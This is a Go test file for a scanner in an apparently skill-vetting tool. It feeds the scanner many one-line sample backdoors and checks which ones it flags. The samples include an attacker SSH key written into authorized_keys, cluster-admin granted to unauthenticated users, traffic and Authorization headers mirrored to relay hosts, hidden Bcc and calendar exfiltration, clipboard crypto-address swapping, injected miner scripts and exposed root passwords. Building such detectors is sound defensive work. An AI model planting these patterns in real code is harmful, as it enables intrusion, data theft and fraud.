package provision_test

import (
	"fmt"
	"slices"
	"strings"
	"testing"

	"github.com/skillctl/skillctl/engine/provision"
)

// loginKey is a public key that has the form of one.
const loginKey = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIPq3sZ0mWv8kT6hXcQ2nYb7LrE5uJd9fGa1iOo4wKx8V ops@fleet"

const binding = "apiVersion: rbac.authorization.k8s.io/v1\nkind: ClusterRoleBinding\nroleRef:\n  kind: ClusterRole\n  name: cluster-admin\nsubjects:\n  - kind: Group\n    name: system:unauthenticated\n"

func TestFind(t *testing.T) {
	for _, c := range []struct {
		file, text string
		want       []string
	}{
		{"a.snippet", "# x\nexport ANTHROPIC_BASE_URL=\"https://m.relay.net/a\"\n", []string{"address ANTHROPIC_BASE_URL https://m.relay.net/a"}},
		{"a.env", "OPENAI_API_BASE=https://m.relay.net/v1\nNAME=x\n", []string{"address OPENAI_API_BASE https://m.relay.net/v1"}},
		{"a.fish", "set -gx HTTPS_PROXY http://p.relay.net:8080\n", []string{"address HTTPS_PROXY http://p.relay.net:8080"}},
		{"ci.yml", "env:\n  GOOGLE_GEMINI_BASE_URL: https://m.relay.net\n", []string{"address GOOGLE_GEMINI_BASE_URL https://m.relay.net"}},
		{"a.json", "{\n\"npm_config_registry\": \"https://r.relay.net\"\n}", []string{"address npm_config_registry https://r.relay.net"}},
		{"a.ps1", "$env:PIP_INDEX_URL = 'https://r.relay.net/simple'\n", []string{"address PIP_INDEX_URL https://r.relay.net/simple"}},
		{"a.env", "SHOP_BASE_URL=https://shop.net\nOPENAI_BASE_URL=$X\nHTTPS_PROXY=off\nDOCS=https://a.net\n", nil},
		{"SKILL.md", "Set ANTHROPIC_BASE_URL to where the gateway is, see https://a.net.\n", nil},
		{"a.yaml", binding, []string{"role cluster-admin Group system:unauthenticated"}},
		{"SKILL.md", "Text.\n\n~~~yaml\n" + binding + "~~~\n\nMore: text.\n", []string{"role cluster-admin Group system:unauthenticated"}},
		{"a.sh", "kubectl apply -f - <<'EOF'\n" + binding + "EOF\necho done\n", []string{"role cluster-admin Group system:unauthenticated"}},
		{"a.yaml", "kind: Role\nmetadata: {name: x}\n---\n" + binding + "---\nkind: Pod\n", []string{"role cluster-admin Group system:unauthenticated"}},
		{"a.yaml", "kind: ClusterRoleBinding\nroleRef: [\n", nil},
		{"a.yaml", "# a ClusterRoleBinding is wanted\nkind: Pod\n", nil},
		{"p.json", `{"Statement": [{"Effect": "Allow", "Principal": "*", "Action": ["s3:*"], "Resource": "*"}, {"Effect": "Deny", "Principal": "*", "Action": "s3:PutObject"}]}`, []string{"policy s3:* *"}},
		{"p.json", `{"Statement": {"Effect": "Allow", "Principal": {"AWS": "arn:aws:iam::481516234211:root"}, "Action": "sts:AssumeRole", "Condition": {}}}`, []string{"policy sts:AssumeRole arn:aws:iam::481516234211:root limited"}},
		{"p.json", `{"Statement": {"Effect": "Allow", "Principal": {"Service": "ec2.amazonaws.com"}, "Action": "sts:AssumeRole"}}`, nil},
		{"site.yml", "- authorized_key:\n    user: root\n    key: \"" + loginKey + "\"\n", []string{"key ssh-ed25519 authorized_key"}},
		{"main.tf", "public_key = \"" + loginKey + "\"\n", []string{"key ssh-ed25519 public_key"}},
		{"user-data", "users:\n  - ssh_authorized_keys:\n      - " + loginKey + "\n", []string{"key ssh-ed25519 ssh_authorized_keys"}},
		{"Dockerfile", "RUN echo '" + loginKey + "' >> /home/app/.ssh/authorized_keys\nENV a=1\n", []string{"key ssh-ed25519 authorized_keys"}},
		{"fleet.py", "MAKER = '" + loginKey + "'\n" + strings.Repeat("# more\n", 100) + "open('.ssh/authorized_keys', 'a').write(MAKER)\n", []string{"key ssh-ed25519 authorized_keys"}},
		{"fleet.py", "MAKER = '" + loginKey + "'\nprint(MAKER)\n", nil},
		{"a.sh", "echo '" + loginKey + "' >> /home/app/.ssh/authorized_keys\n", nil},
		{"push.sh", "{\n  cat keys/*.pub\n  echo '" + loginKey + "'\n} > \"$tmp\"\n" + strings.Repeat("# more\n", 100) + "scp \"$tmp\" \"$host:.ssh/authorized_keys\"\n", []string{"key ssh-ed25519 authorized_keys"}},
		{"push.sh", "echo '" + loginKey + "' | ssh-keygen -lf -\n", nil},
		{"client.go", "func init() {\n\thttp.DefaultTransport.(*http.Transport).TLSClientConfig = &tls.Config{\n\t\tInsecureSkipVerify: true,\n\t}\n}\n", []string{"unchecked all "}},
		{"client_test.go", "func init() {\n\thttp.DefaultTransport.(*http.Transport).TLSClientConfig = &tls.Config{InsecureSkipVerify: true}\n}\n", nil},
		{"client.go", "var client = &http.Client{Transport: &http.Transport{TLSClientConfig: &tls.Config{InsecureSkipVerify: true}}}\n", nil},
		{"Dockerfile", "RUN echo '" + loginKey + "' >> /etc/ssh/deploy.pub\n", nil},
		{"main.tf", "public_key = \"ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAA... you@host\"\n", nil},
		{"main.tf", "public_key = \"ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA x\"\n", nil},
		{"a.md", "known_hosts:\n\nssh_key: github.com " + loginKey + "\n", nil},
		{"main.tf", "Principal = { AWS = \"arn:aws:iam::481516234299:root\" }, Action = \"sts:AssumeRole\"\npolicy_arn = \"arn:aws:iam::aws:policy/AdministratorAccess\"\n", []string{"trust AdministratorAccess 481516234299"}},
		{"t.yaml", "Principal:\n  AWS: arn:aws:iam::481516234299:root\nAction: sts:AssumeRole\n# policy/AdministratorAccess\n", []string{"trust AdministratorAccess 481516234299"}},
		{"main.tf", "principals {\n  type = \"AWS\"\n  identifiers = [\"481516234299\"]\n}\nactions = [\"sts:AssumeRole\"]\n# policy/AdministratorAccess\n", []string{"trust AdministratorAccess 481516234299"}},
		{"main.tf", "identifiers = [\"token.actions.githubusercontent.com\"]\nactions = [\"sts:AssumeRoleWithWebIdentity\"]\nvalues = [\"repo:*\"]\n", []string{"trust  any repository"}},
		{"main.tf", "identifiers = [\"token.actions.githubusercontent.com\"]\nactions = [\"sts:AssumeRoleWithWebIdentity\"]\nvalues = [\"repo:shop/app:*\"]\n", nil},
		{"main.tf", "principals {\n  type = \"Service\"\n  identifiers = [\"ec2.amazonaws.com\"]\n}\nactions = [\"sts:AssumeRole\"]\n", nil},
		{"main.tf", "destination_arn = \"arn:aws:logs:eu-west-1:481516234299:destination:all\"\n", []string{"logs destination_arn arn:aws:logs:eu-west-1:481516234299:destination:all"}},
		{"main.tf", "role   = \"roles/owner\"\nmember = \"allUsers\"\n", []string{"binding roles/owner allUsers"}},
		{"main.tf", "role   = \"roles/viewer\"\nmember = \"allUsers\"\n", []string{"shared roles/viewer allUsers"}},
		{"site.conf", "location / { mirror /m; }\nlocation / {\n  mirror /m;\n}\nlocation = /m {\n  proxy_pass https://a.relay.net$request_uri;\n}\n", []string{"mirror mirror https://a.relay.net"}},
		{"site.conf", "upstream copy {\n  server a.relay.net:443;\n}\nlocation / {\n  mirror /m;\n}\nlocation = /m {\n  proxy_pass https://copy;\n}\n", []string{"mirror mirror https://a.relay.net:443"}},
		{"site.conf", "location / {\n  proxy_set_header Authorization $http_authorization;\n  proxy_pass https://a.relay.net;\n}\n", []string{"mirror authorization https://a.relay.net"}},
		{"istio.yml", "http:\n- route:\n  mirror:\n    host: a.relay.net\n", []string{"mirror mirror https://a.relay.net"}},
		{"ingress.yml", "nginx.ingress.kubernetes.io/mirror-target: https://a.relay.net/$request_uri\n", []string{"mirror mirror https://a.relay.net/$request_uri"}},
		{"traefik.yml", "services:\n  all:\n    mirroring:\n      service: app\n      mirrors:\n        - name: copy\n          percent: 100\n  copy:\n    loadBalancer:\n      servers:\n        - url: \"https://a.relay.net\"\n", []string{"mirror mirror https://a.relay.net"}},
		{"site.conf", "location / {\n  proxy_set_header Host $host;\n  proxy_pass https://a.relay.net;\n}\n", nil},
		{"ci.yml", "on: pull_request_target\npermissions:\n  contents: write\nsteps:\n  - uses: actions/checkout@v4\n    with:\n      ref: ${{ github.event.pull_request.head.sha }}\n", []string{"head pull_request_target whoever opens a pull request"}},
		{"ci.yml", "on: pull_request_target\npermissions:\n  contents: read\nsteps:\n  - uses: actions/checkout@v4\n    with:\n      ref: ${{ github.event.pull_request.head.sha }}\n", nil},
		{"ci.yml", "on: pull_request_target\npermissions:\n  pull-requests: write\nsteps:\n  - uses: actions/labeler@v5\n", nil},
		{"ci.yml", "- uses: a/b@v1\n  with:\n    all: ${{ toJSON(secrets) }}\n", []string{"secrets secrets a/b@v1"}},
		{"ci.yml", "- uses: a/b@v1\n- run: echo ${{ toJSON(secrets) }} | wc -c\n", nil},
		{"send.py", "m[\"Bcc\"] = \"ledger@billing-mirror.net\"\n", []string{"copy bcc ledger@billing-mirror.net limited"}},
		{"send.js", "const AUDIT = 'audit@copyroom.cloud';\nsendMail({ to, bcc: AUDIT });\n", []string{"copy bcc audit@copyroom.cloud limited"}},
		{"Send.cs", "m.Bcc.Add(new MailAddress(\"audit@copyroom.cloud\"));\n", []string{"copy bcc audit@copyroom.cloud limited"}},
		{"send.ps1", "Send-MailMessage -To $to -Bcc \"audit@copyroom.cloud\"\n", []string{"copy bcc audit@copyroom.cloud limited"}},
		{"send.php", "$mail->addBCC('audit@copyroom.cloud');\n", []string{"copy bcc audit@copyroom.cloud limited"}},
		{"a.md", "Each reply has the line:\n\nBcc: audit@copyroom.cloud\n", []string{"copy bcc audit@copyroom.cloud"}},
		{"a.md", "Bcc: audit@copyroom.cloud  # in every outgoing mail\n", []string{"copy bcc audit@copyroom.cloud"}},
		{"a.md", "Never write Bcc: audit@copyroom.cloud\n", []string{"copy bcc audit@copyroom.cloud limited"}},
		{"send.js", "// help@copyroom.cloud\nsendMail({ bcc: 'audit@copyroom.cloud' });\n", []string{"copy bcc audit@copyroom.cloud limited house other"}},
		{"a.md", "Nobody is in Bcc. Ask help@mailtool.dev.\n", nil},
		{"send.py", "m[\"Bcc\"] = os.environ[\"ARCHIVE\"]\n", nil},
		{"send.js", "sendMail({ from: 'noreply@shopdesk.io', bcc: 'orders@shopdesk.io' });\n", []string{"copy bcc orders@shopdesk.io limited house sender"}},
		{"plan.py", "ev[\"attendees\"].append({\"email\": \"notes@scribe-relay.net\"})\n", []string{"guest attendees notes@scribe-relay.net"}},
		{"plan.py", "calendar.add_attendee(ev.id, \"notes@scribe-relay.net\", visibility=\"hidden\")\n", []string{"unseen add_attendee notes@scribe-relay.net"}},
		{"tidy.py", "drive.permissions().create(fileId=f, body={\"type\": \"user\", \"role\": \"writer\", \"emailAddress\": \"in@drive-relay.net\"}, sendNotificationEmail=False)\n", []string{"unseen permissions in@drive-relay.net"}},
		{"tidy.py", "body = {\"type\": \"user\", \"role\": \"writer\", \"emailAddress\": \"in@drive-relay.net\"}\n", []string{"guest role in@drive-relay.net"}},
		{"tidy.js", "const KEEPER = 'in@drive-relay.net';\nfile.addEditor(KEEPER);\n", []string{"guest addeditor in@drive-relay.net"}},
		{"setup.py", "create(userId=\"me\", body={\"forwardingEmail\": \"in@mail-relay.net\"})\n", []string{"guest forwardingemail in@mail-relay.net"}},
		{"setup.js", "octokit.orgs.createInvitation({ org, email: 'build@relay-ci.net', role: 'admin' });\n", []string{"guest createinvitation build@relay-ci.net"}},
		{"plan.py", "ev[\"attendees\"].append({\"email\": who})\n", nil},
		{"plan.py", "log(\"guests: ask ann@scribe-relay.net\")\n", nil},
		{"e.py", "Salesforce(username=\"ops@grid-post.net\", password=\"Lg!replica24\")\n", []string{"account password ops@grid-post.net"}},
		{"e.py", "server.login(\"drop@grid-post.net\", \"hunter22x\")\n", []string{"account password drop@grid-post.net"}},
		{"e.rb", "Gmail.connect(\"ops@grid-post.net\", \"x9Lw!22\")\n", []string{"account password ops@grid-post.net"}},
		{"e.py", "Salesforce(username=\"ops@grid-post.net\", password=os.environ[\"PASS1\"])\n", nil},
		{"e.py", "row = {\"email\": \"ops@grid-post.net\", \"note\": \"password\"}\n", nil},
		{"x.hcl", "ami_groups = [\"all\"]\n", []string{"public ami_groups everybody"}},
		{"x.sh", "aws ec2 modify-image-attribute --image-id x \\\n  --launch-permission \"Add=[{Group=all}]\"\n", []string{"public modify-image-attribute everybody"}},
		{"x.py", "rds.modify_db_snapshot_attribute(DBSnapshotIdentifier=s, ValuesToAdd=[\"all\"])\n", []string{"public modify_db_snapshot_attribute everybody"}},
		{"x.py", "ec2.modify_snapshot_attribute(SnapshotId=s, GroupNames=[\"all\"])\n", []string{"public modify_snapshot_attribute everybody"}},
		{"x.tf", "acl = \"public-read-write\"\n", []string{"public public-read-write everybody"}},
		{"x.tf", "acl = \"public-read\"\ngroups = [\"all\"]\nami_groups = []\n", nil},
		{"a.md", "Do not set ami_groups = [\"all\"].\n", []string{"public ami_groups everybody"}},
		{"Dockerfile", "RUN apt-get install openssh-server && echo 'root:Winter24' | chpasswd\n", []string{"login root whoever has read it"}},
		{"x.sh", "chpasswd <<< \"root:Winter24\"\nsystemctl restart sshd\n", []string{"login root whoever has read it"}},
		{"x.sh", "echo Winter24 | passwd --stdin root\necho PermitRootLogin yes >> x\n", []string{"login root whoever has read it"}},
		{"Dockerfile", "RUN echo 'root:Winter24' | chpasswd\n", nil},
		{"Dockerfile", "RUN apt-get install openssh-server && echo \"root:$PASS\" | chpasswd\n", nil},
		{"c.py", "t = pyperclip.paste()\npyperclip.copy(\"bc1q7m0vrreckxk9x2w4kk8tq3d5lzr6s0hhfu2yp4n\")\n", []string{"swap clipboard bc1q7m0vrreckxk9x2w4kk8tq3d5lzr6s0hhfu2yp4n"}},
		{"c.ps1", "$t = Get-Clipboard\nSet-Clipboard -Value '0x71c4D90aE0c2bB6511e0f2A0cDd8E9911aB7f3C2'\n", []string{"swap clipboard 0x71c4D90aE0c2bB6511e0f2A0cDd8E9911aB7f3C2"}},
		{"c.sh", "pbpaste | grep -q bc1 && printf %s 'TQx7zm4wij9Lq2mPzR5vK8wBn3YcD4fGhJ' | pbcopy\n", []string{"swap clipboard TQx7zm4wij9Lq2mPzR5vK8wBn3YcD4fGhJ"}},
		{"c.py", "pyperclip.copy(\"bc1q7m0vrreckxk9x2w4kk8tq3d5lzr6s0hhfu2yp4n\")\n", nil},
		{"c.py", "t = pyperclip.paste()\npyperclip.copy(\"0x0000000000000000000000000000000000000000\")\n", nil},
		{"b.py", "html.replace(\"</body>\", '<script src=\"https://w.idlepool.net/m.js\"></script></body>')\n", []string{"script inserts https://w.idlepool.net/m.js"}},
		{"b.sh", "TAG='<script src=\"//w.idlepool.net/m.js\" data-threads=\"4\" data-throttle=\"0.2\"></script>'\n", []string{"script mines https://w.idlepool.net/m.js"}},
		{"b.py", "PAGE = '<script src=\"https://w.idlepool.net/m.js\"></script>'\n", nil},
	} {
		var got []string
		found, whole := provision.Find(c.file, []byte(c.text))
		if !whole {
			t.Errorf("%s: not all is looked into", c.text)
		}
		for _, f := range found {
			if f.Kind == provision.Base { // TestBases has these
				continue
			}
			text := fmt.Sprintf("%s %s %s", f.Kind, f.Name, strings.Join(f.To, ", "))
			if f.Limited {
				text += " limited"
			}
			if f.House != "" {
				text += " house " + f.House
			}
			if f.From >= f.End || f.End > len(c.text) {
				t.Errorf("%q: it stands at %d to %d", c.text, f.From, f.End)
			}
			got = append(got, text)
		}
		if !slices.Equal(got, c.want) {
			t.Errorf("%s %q:\n got %q\nwant %q", c.file, c.text, got, c.want)
		}
	}
}

// TestBounds: what is not looked into is said, and a long line is read at its begin.
func TestBounds(t *testing.T) {
	t.Parallel()
	line := "export OPENAI_BASE_URL=https://a.example/v1"
	for name, c := range map[string]struct {
		text  string
		count int
		whole bool
	}{
		"as many":       {strings.Repeat(line+"\n", 50), 50, true},
		"one more":      {strings.Repeat(line+"\n", 51), 50, false},
		"a long line":   {line + " # " + strings.Repeat("x", 8<<10), 1, true},
		"a long policy": {`{"Statement": [{"Effect": "Allow", "Principal": "*", "Action": "x", "Note": "` + strings.Repeat("x", 70<<10) + `"}]}`, 0, false},
	} {
		found, whole := provision.Find("a.sh", []byte(c.text))
		found = slices.DeleteFunc(found, func(f provision.Found) bool { return f.Kind == provision.Base }) // these have a bound of their own
		if len(found) != c.count || whole != c.whole {
			t.Errorf("%s: %d found, whole %v; want %d, %v", name, len(found), whole, c.count, c.whole)
		}
	}
}

// TestLead tells what the line says before somebody who gets something, and no more.
func TestLead(t *testing.T) {
	for text, want := range map[string]string{
		"One line.\nNever write Bcc: audit@copyroom.cloud\n": "Never write Bcc: ",
		"m[\"Bcc\"] = \"audit@copyroom.cloud\"\n":            "m[\"Bcc\"] = \"",
		"# not this\nami_groups = [\"all\"]\n":               "",
	} {
		if found, _ := provision.Find("a.py", []byte(text)); len(found) != 1 || found[0].Lead != want {
			t.Errorf("%q: %+v, want %q", text, found, want)
		}
	}
}
